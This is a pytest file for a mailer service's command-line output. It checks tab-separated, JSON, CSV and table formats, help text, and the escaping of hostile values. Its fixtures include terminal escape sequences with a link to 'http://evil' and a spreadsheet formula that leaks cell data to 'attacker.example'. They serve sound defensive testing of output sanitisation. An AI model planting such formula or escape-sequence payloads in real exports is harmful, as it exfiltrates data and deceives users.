"""CLI output scripts can use: list commands print tsv in a pipe (one line per record,
never wrapped), json and formula-safe csv on request, escaped tables; status lines go to
stderr; every command's help names its values (no ``<bool>``/``<str>``)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator

import pytest
import typer
from sqlalchemy import select

from mailer.db import session_scope
from mailer.feeds.registry import load_default_sources
from mailer.models import Source, Subscriber
from mailer.spreadsheet import restore
from service.cli import app
from tests.conftest import Db
from tests.support.feedserver import FeedServer
from tests.support.running import cli, invoke

LONG_ADDRESS = "a-long-reader-address-to-grep-for." + "x" * 10 + "@example-domain.org"
HOSTILE = (
    "tab\there\nnew line\r\x1b[31mred\x1b[0m [bold]loud[/bold] \x1b]8;;http://evil\x07l\x1b]8;;\x07"
)
FORMULA = '=HYPERLINK("https://attacker.example/?d="&A2)'
PYTHON_TYPE = re.compile(r"<(?:bool|str|int|float|path|list\[[a-z]+\]|[a-z_]+)>")


def _commands(group: typer.core.TyperGroup, path: list[str]) -> Iterator[list[str]]:
    yield path
    ctx = typer.Context(group)
    for name in group.list_commands(ctx):
        command = group.get_command(ctx, name)
        if isinstance(command, typer.core.TyperGroup):
            yield from _commands(command, [*path, name])
        else:
            yield [*path, name]


def every_command() -> list[list[str]]:
    root = typer.main.get_command(app)
    assert isinstance(root, typer.core.TyperGroup)
    return list(_commands(root, []))


def test_the_walk_finds_the_list_commands() -> None:
    found = {" ".join(path) for path in every_command()}
    assert {"subscribers list", "feeds list", "poll", "alert approve", "digest send"} <= found


@pytest.mark.parametrize("path", every_command(), ids=lambda path: " ".join(path) or "root")
def test_help_names_values_and_explains_every_command_and_option(
    path: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    code, output = invoke(*path, "--help")
    assert code == 0 and "Usage" in output, output
    assert not PYTHON_TYPE.search(output), output
    command = typer.main.get_command(app)
    for name in path:
        assert isinstance(command, typer.core.TyperGroup)
        found = command.get_command(typer.Context(command), name)
        assert found is not None
        command = found
    assert command.help, f"{path}: no help text"
    for param in command.get_params(typer.Context(command)):
        assert getattr(param, "help", None), f"{path}: {param.name} has no help text"


def test_a_piped_list_keeps_a_long_address_on_one_line(
    cli_env: Db, monkeypatch: pytest.MonkeyPatch
) -> None:
    # An 80-column terminal width, as in a pipe: the address must still stay whole.
    monkeypatch.setenv("COLUMNS", "80")
    assert len(LONG_ADDRESS) == 63
    invoke("init")
    assert invoke("subscribers", "add", LONG_ADDRESS, "--confirmed")[0] == 0
    assert invoke("subscribers", "add", "bob@example.org")[0] == 0
    result = cli("subscribers", "list")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    header = "email status language wants_digest wants_alerts topics created_at confirmed_at"
    assert lines[0] == header.replace(" ", "\t")
    assert len(lines) == 3
    matching = [line for line in lines if LONG_ADDRESS in line]
    assert len(matching) == 1
    assert matching[0].split("\t")[:5] == [LONG_ADDRESS, "active", "en", "true", "true"]
    # The count is a status line: on stderr, not among the records.
    assert "2 subscriber(s)." in result.stderr and "subscriber(s)" not in result.stdout


def test_a_real_pipe_gets_tsv_and_grep_finds_the_address(cli_env: Db) -> None:
    invoke("init")
    invoke("subscribers", "add", LONG_ADDRESS, "--confirmed")
    env = {**os.environ, "COLUMNS": "80"}
    piped = subprocess.run(
        [sys.executable, "-m", "service", "subscribers", "list"],
        capture_output=True,
        text=True,
        env=env,
        check=True,
        timeout=120,
    )
    grep = subprocess.run(
        ["grep", LONG_ADDRESS], input=piped.stdout, capture_output=True, text=True, check=True
    )
    assert grep.stdout.count("\n") == 1 and grep.stdout.startswith(LONG_ADDRESS + "\tactive\t")
    assert "\x1b" not in piped.stdout and "│" not in piped.stdout
    assert "1 subscriber(s)." in piped.stderr


def test_json_parses_with_machine_keys_and_iso_datetimes(cli_env: Db) -> None:
    invoke("init")
    invoke("subscribers", "add", LONG_ADDRESS, "--confirmed", "--topic", "sudan", "--no-alerts")
    invoke("subscribers", "add", "bob@example.org")
    result = cli("subscribers", "list", "--format", "json")
    assert result.exit_code == 0, result.output
    records = json.loads(result.stdout)
    assert [record["email"] for record in records] == [LONG_ADDRESS, "bob@example.org"]
    first = records[0]
    assert first["status"] == "active" and first["topics"] == ["sudan"]
    assert first["wants_digest"] is True and first["wants_alerts"] is False
    assert re.match(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d", first["confirmed_at"])
    assert records[1]["confirmed_at"] is None and records[1]["status"] == "pending"
    empty = cli("subscribers", "list", "--status", "bounced", "--format", "json")
    assert json.loads(empty.stdout) == []
    feeds = json.loads(cli("feeds", "list", "--format", "json").stdout)
    assert {"key", "url", "enabled", "items", "last_error", "last_success_at"} <= set(feeds[0])


def _make_hostile(db: Db) -> None:
    with session_scope(db.factory) as session:
        source = session.scalars(select(Source).where(Source.key == "un-press")).one()
        source.title = HOSTILE
        source.last_error = FORMULA
        session.add(
            Subscriber(email="eve@example.org", status="active", language="en", topics=[HOSTILE])
        )


def test_tsv_keeps_one_line_per_record_whatever_the_values(cli_env: Db) -> None:
    invoke("init")
    _make_hostile(cli_env)
    result = cli("feeds", "list", "--format", "tsv")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert len(lines) == 1 + len(load_default_sources())  # the header and the default feeds
    assert all(line.count("\t") == 13 for line in lines)  # 14 fields
    row = next(line.split("\t") for line in lines if line.startswith("un-press\t"))
    assert row[1] == "tab here new line red [bold]loud[/bold] l"
    assert "\x1b" not in result.stdout and "\r" not in result.stdout
    readers = cli("subscribers", "list").stdout.splitlines()
    assert len(readers) == 2 and readers[1].split("\t")[5] == row[1]


def test_a_table_shows_markup_literally_and_drops_escape_sequences(cli_env: Db) -> None:
    invoke("init")
    _make_hostile(cli_env)
    result = cli("feeds", "list", "--format", "table")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "Feed sources" in result.stdout
    # The title column, read down the table: folding may split words across lines.
    titles = "".join(
        line.split("│")[2].strip() for line in result.stdout.splitlines() if "│" in line
    )
    assert "[bold]loud[/bold]" in titles


def test_csv_is_formula_safe_and_reads_back(cli_env: Db) -> None:
    invoke("init")
    _make_hostile(cli_env)
    result = cli("feeds", "list", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == len(load_default_sources())
    press = next(row for row in rows if row["key"] == "un-press")
    assert press["last_error"] == "'" + FORMULA and restore(press["last_error"]) == FORMULA
    assert press["title"] == HOSTILE  # csv quotes line breaks; nothing is lost


def test_an_unknown_format_is_refused(cli_env: Db) -> None:
    invoke("init")
    code, output = invoke("feeds", "list", "--format", "xml")
    assert code == 2 and "xml" in output


def test_poll_prints_one_record_per_feed_and_its_summary_on_stderr(
    cli_env: Db, feed_server: FeedServer
) -> None:
    invoke("init")
    url = feed_server.serve_file("/press.xml", "un-press/rss.xml")
    assert invoke("feeds", "add", "local-press", url)[0] == 0
    result = cli("poll", "--feed", "local-press", "--format", "json")
    assert result.exit_code == 0, result.output
    [record] = json.loads(result.stdout)
    assert (record["feed"], record["result"], record["new"]) == ("local-press", "new", 4)
    assert "4 new item(s) from 1 feed(s); 0 failed." in result.stderr
